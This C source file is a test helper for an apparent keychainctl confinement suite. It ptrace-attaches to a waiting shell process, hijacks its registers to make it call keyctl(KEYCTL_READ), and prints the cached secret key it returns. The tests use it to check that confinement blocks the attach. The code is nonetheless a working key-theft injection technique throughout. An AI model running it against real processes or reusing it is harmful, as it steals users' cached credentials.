/* steal-cached-key PID KEYID: the attack a command run by `keychainctl exec` would make on the shell
   that started it (x86-64). It attaches to PID with ptrace, makes it call keyctl(KEYCTL_READ, KEYID)
   into a buffer below its stack, prints the bytes that call returned on stdout, and lets PID go on
   as it was. PID must be waiting in a system call (a shell in wait4). Exit 2: ptrace refused with
   EPERM (the attack failed as exec makes it fail); 5: ptrace failed otherwise; 3: PID is not in a
   system call; 4: the keyctl call failed inside PID.
   Test support only: compiled and run by ExecConfinementTests. */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: steal-cached-key PID KEYID\n");
        return 64;
    }
    pid_t pid = (pid_t)atoi(argv[1]);
    long key = atol(argv[2]);
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) {
        /* 2 is the refusal exec makes (seccomp and Landlock answer EPERM); any other errno is 5,
           so a test that expects the refusal cannot pass on another failure. */
        int failure = errno;
        fprintf(stderr, "PTRACE_ATTACH %d: %s\n", pid, strerror(failure));
        return failure == EPERM ? 2 : 5;
    }
    waitpid(pid, NULL, __WALL);
    struct user_regs_struct saved, regs;
    ptrace(PTRACE_GETREGS, pid, 0, &saved);
    /* Stopped in a system call, rip is just past its two-byte `syscall` instruction (0f 05). */
    long code = ptrace(PTRACE_PEEKTEXT, pid, (void *)(saved.rip - 2), 0);
    if ((code & 0xFFFF) != 0x050F) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        fprintf(stderr, "pid %d is not waiting in a system call\n", pid);
        return 3;
    }
    uint64_t buffer = (saved.rsp - 65536) & ~(uint64_t)15;
    regs = saved;
    regs.rip = saved.rip - 2;
    regs.orig_rax = (uint64_t)-1;
    regs.rax = 250; /* keyctl */
    regs.rdi = 11;  /* KEYCTL_READ */
    regs.rsi = (uint64_t)key;
    regs.rdx = buffer;
    regs.r10 = 256;
    ptrace(PTRACE_SETREGS, pid, 0, &regs);
    ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &regs);
    long got = (long)regs.rax;
    unsigned char bytes[256];
    for (long offset = 0; got > 0 && offset < got && offset < 256; offset += 8) {
        long word = ptrace(PTRACE_PEEKDATA, pid, (void *)(buffer + offset), 0);
        memcpy(bytes + offset, &word, 8);
    }
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    if (got <= 0) {
        fprintf(stderr, "keyctl(KEYCTL_READ) in pid %d: %s\n", pid, strerror((int)-got));
        return 4;
    }
    fwrite(bytes, 1, (size_t)(got < 256 ? got : 256), stdout);
    return 0;
}
